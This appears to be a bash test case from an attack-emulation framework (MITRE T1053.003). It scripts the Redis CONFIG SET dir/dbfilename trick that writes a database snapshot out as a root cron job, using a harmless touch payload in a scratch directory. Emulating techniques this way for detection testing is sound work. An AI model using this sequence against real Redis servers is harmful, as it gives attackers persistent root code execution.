# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1053.003
about="CONFIG SET dir and dbfilename: a snapshot becomes a job for cron"
before() { mkdir -p /srv/cron && chmod 777 /srv/cron; }
attack() {
	redis config set dir /srv/cron
	redis config set dbfilename root
	redis set job $'\n* * * * * root touch /tmp/x\n'
	redis save
}
effect() { [ -e /srv/cron/root ]; }
after() { rm -rf /srv/cron; }
